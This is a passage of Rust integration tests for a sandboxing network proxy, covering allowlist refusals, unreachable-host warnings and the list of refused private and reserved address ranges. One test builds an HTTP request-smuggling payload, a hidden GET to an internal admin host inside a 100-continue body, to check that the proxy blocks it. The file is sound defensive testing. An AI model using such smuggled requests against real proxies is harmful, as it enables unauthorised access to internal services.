                    let mut r = std::io::BufReader::new(stream);
                    while let Some((line, headers)) = read_head(&mut r) {
                        let path = line.split(' ').nth(1).unwrap_or("").to_string();
                        let answer = if path == "/reject" {
                            let _ = w.write_all(
                                b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n",
                            );
                            "401".to_string()
                        } else {
                            if path == "/continue" {
                                let _ = w.write_all(b"HTTP/1.1 100 Continue\r\n\r\n");
                            }
                            let Some(body) = read_body(&mut r, &headers) else {
                                return;
                            };
                            let body = format!("got {}", String::from_utf8_lossy(&body));
                            let _ = write!(
                                w,
                                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                                body.len()
                            );
                            body
                        };
                        l.lock().unwrap().push(format!("{line} => {answer}"));
                    }
                });
            }
        });
        Expecting { port, log }
    }
}

#[test]
fn attack_38_a_body_held_for_100_continue_is_not_sent_after_a_final_answer() {
    let (env, id) = setup(&pins(&["allowed.test"], true));
    let server = Expecting::start();
    let p = server.port;
    let a = format!("allowed.test:{p}");
    let smuggled = format!("GET /two HTTP/1.1\r\nHost: internal-admin.corp:{p}\r\n\r\n");
    // The client sends the body without waiting (as any client may), the server answers
    // 401 before it: the proxy never sends that body on, and ends the connection.
    let reject = format!(
        "POST /reject HTTP/1.1\r\nHost: {a}\r\nExpect: 100-continue\r\nContent-Length: {}\r\n\r\n{smuggled}",
        smuggled.len()
    );
    let args = [
        session(
            "tunnel",
            "connect",
            "allowed.test",
            p,
            true,
            &[reject.clone(), get("/after", &a)],
        ),
        session(
            "forward",
            "forward",
            "-",
            0,
            true,
            &[reject
                .replace("POST /reject", &format!("POST http://{a}/reject"))
                .replace("\r\n\r\n", "\r\nProxy-Authorization: {AUTH}\r\n\r\n")],
        ),
    ];
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = py(&env, &id, &["allowed.test"], SESSIONS, &args);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(
        probe(&run, "tunnel#0").starts_with("HTTP/1.1 401"),
        "{}",
        run.stdout
    );
    assert_eq!(probe(&run, "tunnel#1"), "CLOSED");
    assert!(
        probe(&run, "forward#0").starts_with("HTTP/1.1 401"),
        "{}",
        run.stdout
    );
    // Positive twins, with curl: a server that sends 100, and one that ignores the
    // expectation and waits for the body (the proxy sends it after a second).
    let twins = sh(
        &env,
        &id,
        &["allowed.test"],
        &format!(
            "for path in continue ignore; do curl -sS -H 'Expect: 100-continue' --data-binary 'hello body' http://{a}/$path; echo; done"
        ),
        &[],
    );
    assert_eq!(twins.code, 0, "{}\n{}", twins.stdout, twins.stderr);
    assert_eq!(twins.stdout, "got hello body\ngot hello body\n");
    let log = server.log.lock().unwrap().clone();
    assert!(!log.iter().any(|l| l.contains("/two")), "{log:?}");
    assert_eq!(
        log,
        [
            "POST /reject HTTP/1.1 => 401".to_string(),
            "POST /reject HTTP/1.1 => 401".to_string(),
            "POST /continue HTTP/1.1 => got hello body".to_string(),
            "POST /ignore HTTP/1.1 => got hello body".to_string(),
        ],
    );
}

// ---------------------------------------------------------------------------------------
// Issue 28: every refusal names its own fix; an unreachable host is said at once
// ---------------------------------------------------------------------------------------

/// A host not on the allowlist: the 403 body and the violation name the rule and the
/// command that allows it for the loop; run as it stands, the same request goes through.
#[test]
fn an_unlisted_host_is_refused_with_the_command_that_allows_it() {
    let web = Web::start("unlisted");
    let (env, id) = setup(&pins(&["unlisted.test"], true));
    let port = web.port.to_string();
    let script = "curl -sS -o refusal.txt -w 'unlisted => %{http_code}\\n' \"http://unlisted.test:$1/\"; cat refusal.txt";
    let run = sh(&env, &id, &[], script, &[&port]).ok();
    assert_eq!(probe(&run, "unlisted"), "403");
    let body = fs::read_to_string(env.workdir(&id).join("refusal.txt")).unwrap();
    let fix = format!(
        "fix: git loop config set --loop {id} network.allow_domains '[\"unlisted.test\"]'\n"
    );
    assert!(
        body.contains("rule: allowlist") && body.contains(&fix),
        "{body}"
    );
    assert_eq!(web.seen(), 0);
    let v = violations(&env, &id);
    assert_eq!(
        v[0]["fix"],
        fix.trim_start_matches("fix: ").trim_end(),
        "{v:?}"
    );
    env.run(["log", &id]).ok().stdout_has(&format!(
        "(fix: {})",
        fix.trim_start_matches("fix: ").trim_end()
    ));
    apply_fix(&env, &body);
    let run = sh(&env, &id, &[], script, &[&port]).ok();
    assert_eq!(probe(&run, "unlisted"), "200");
    assert_eq!(web.seen(), 1);
}

/// A server inside a network namespace of the test's own, on `address`, answering every
/// GET with `mirror ok`; its port is the kernel's choice.
struct Mirror {
    _server: Kill,
    port: u16,
}

impl Mirror {
    fn start(ns: &Netns, address: &str) -> Mirror {
        const SERVER: &str = r#"
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"mirror ok\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
s = http.server.HTTPServer((sys.argv[1], 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
"#;
        let mut child = ns
            .command("python3")
            .args(["-c", SERVER, address])
            .stdout(Stdio::piped())
            .stdin(Stdio::null())
            .spawn()
            .unwrap();
        let mut line = String::new();
        std::io::BufRead::read_line(
            &mut std::io::BufReader::new(child.stdout.take().unwrap()),
            &mut line,
        )
        .unwrap();
        let port = line
            .trim()
            .parse()
            .unwrap_or_else(|_| panic!("the mirror did not start: {line:?}"));
        Mirror {
            _server: Kill(child),
            port,
        }
    }
}

/// A registry's name that resolves to a documentation address (as a private mirror or
/// split DNS gives): refused with the operator's `allow_cidrs` command for exactly that
/// address, not `--allow-domain`, which would change nothing; run as it stands, the same
/// request reaches the mirror. In a network namespace of its own, where the address is on
/// the loopback. A name that resolves nowhere there is said on the run's terminal.
#[test]
fn an_address_refusal_names_the_operators_range_and_it_works() {
    let ns = Netns::new();
    ns.add_address("192.0.2.10/32");
    let mirror = Mirror::start(&ns, "192.0.2.10");
    let (env, id) = setup("[network.hosts]\n\"mirror.test\" = \"192.0.2.10\"\n");
    let port = mirror.port.to_string();
    let script = format!(
        "curl -sS -o refusal.txt -w 'mirror => %{{http_code}}\\n' http://mirror.test:{port}/; cat refusal.txt"
    );
    let args = [
        "run",
        "-q",
        &id,
        "--allow-domain",
        "mirror.test",
        "--",
        "sh",
        "-c",
        &script,
    ];
    let run = ns.run(&env, &args).ok();
    assert_eq!(probe(&run, "mirror"), "403");
    let body = fs::read_to_string(env.workdir(&id).join("refusal.txt")).unwrap();
    assert!(body.contains("rule: address"), "{body}");
    assert!(
        body.contains("192.0.2.10, a documentation (RFC 5737) address"),
        "{body}"
    );
    assert!(
        body.contains(
            "fix: git loop config set --operator network.allow_cidrs '[\"192.0.2.10/32\"]'\n"
        ),
        "{body}"
    );
    assert!(body.contains("--allow-domain changes nothing"), "{body}");
    apply_fix(&env, &body);
    let run = ns.run(&env, &args).ok();
    assert_eq!(probe(&run, "mirror"), "200");
    let got = fs::read_to_string(env.workdir(&id).join("refusal.txt")).unwrap();
    assert_eq!(got, "mirror ok\n");
    // No DNS in the namespace: the name cannot be resolved, which is said at once.
    let run = ns
        .run(
            &env,
            &[
                "run",
                &id,
                "--allow-domain",
                "nowhere.test",
                "--",
                "sh",
                "-c",
                "curl -sS -o /dev/null -w 'nowhere => %{http_code}\\n' http://nowhere.test/; echo 'after the request' >&2",
            ],
        )
        .ok();
    assert_eq!(probe(&run, "nowhere"), "502");
    let said = run
        .stderr
        .find(
            "warning: the network proxy cannot reach nowhere.test:80: cannot resolve nowhere.test",
        )
        .unwrap_or_else(|| panic!("{}", run.stderr));
    assert!(
        said < run.stderr.find("after the request").unwrap(),
        "{}",
        run.stderr
    );
}

/// An API host the proxy cannot reach is said on the run's terminal at once, once per
/// host however often it is tried, while the run goes on (before what the command prints
/// after the attempt), and in the log.
#[test]
fn an_unreachable_host_is_said_at_once_once_per_host() {
    let (env, id) = setup(&pins(&["down.test", "down2.test"], true));
    // A port nothing listens on.
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
        .to_string();
    let script = "for i in 1 2 3; do curl -s -o /dev/null -w 'down => %{http_code}\\n' http://down.test:$1/; done; \
                  echo 'after the attempts' >&2; \
                  curl -s -o /dev/null -w 'down2 => %{http_code}\\n' http://down2.test:$1/";
    let mut argv = vec![
        "run",
        &id,
        "--allow-domain",
        "down.test",
        "--allow-domain",
        "down2.test",
    ];
    argv.extend(["--", "sh", "-c", script, "sh", &port]);
    let run = env.run(argv).ok();
    assert_eq!(probe(&run, "down"), "502");
    let line = format!(
        "warning: the network proxy cannot reach down.test:{port}: 127.0.0.1: connection refused"
    );
    assert_eq!(run.stderr.matches(&line).count(), 1, "{}", run.stderr);
    assert!(
        run.stderr.find(&line).unwrap() < run.stderr.find("after the attempts").unwrap(),
        "{}",
        run.stderr
    );
    assert_eq!(
        run.stderr
            .matches("warning: the network proxy cannot reach down2.test")
            .count(),
        1,
        "{}",
        run.stderr
    );
    let log = env.run(["log", &id]).ok();
    assert_eq!(
        log.stdout
            .matches(&format!("down.test:{port} could not be reached"))
            .count(),
        3,
        "{}",
        log.stdout
    );
}

/// `show --net` lists every address class the proxy refuses, each with its range.
#[test]
fn show_net_lists_every_refused_address_class() {
    let (env, id) = setup("");
    let out = env.run(["show", &id, "--net"]).ok().stdout;
    for (range, class) in [
        ("0.0.0.0/8", "this network"),
        ("127.0.0.0/8", "loopback"),
        ("10.0.0.0/8", "private (RFC 1918)"),
        ("172.16.0.0/12", "private (RFC 1918)"),
        ("192.168.0.0/16", "private (RFC 1918)"),
        ("169.254.0.0/16", "link-local"),
        ("100.64.0.0/10", "CGNAT"),
        ("192.0.0.0/24", "IETF protocol assignments"),
        ("192.0.2.0/24", "documentation"),
        ("198.51.100.0/24", "documentation"),
        ("203.0.113.0/24", "documentation"),
        ("192.88.99.0/24", "6to4 relay"),
        ("198.18.0.0/15", "benchmarking"),
        ("224.0.0.0/4", "multicast"),
        ("240.0.0.0/4", "reserved"),
        ("255.255.255.255/32", "limited broadcast"),
        ("::/128", "unspecified"),
        ("::1/128", "loopback"),
        ("64:ff9b:1::/48", "translation"),
        ("fc00::/7", "unique local"),
        ("fe80::/10", "link-local"),
        ("fec0::/10", "site-local"),
        ("ff00::/8", "multicast"),
        ("not 2000::/3", "outside global unicast"),
        ("2001::/23", "Teredo"),
        ("2001:db8::/32", "documentation"),
        ("3fff::/20", "documentation"),
    ] {
        assert!(
            out.lines()
                .any(|l| l.starts_with(&format!("{range} ")) && l.contains(class)),
            "show --net lacks {range} ({class}):\n{out}"
        );
    }
    let json = env.run(["show", &id, "--net", "--json"]).ok().json();
    assert_eq!(json["refused_addresses"].as_array().unwrap().len(), 27);
}
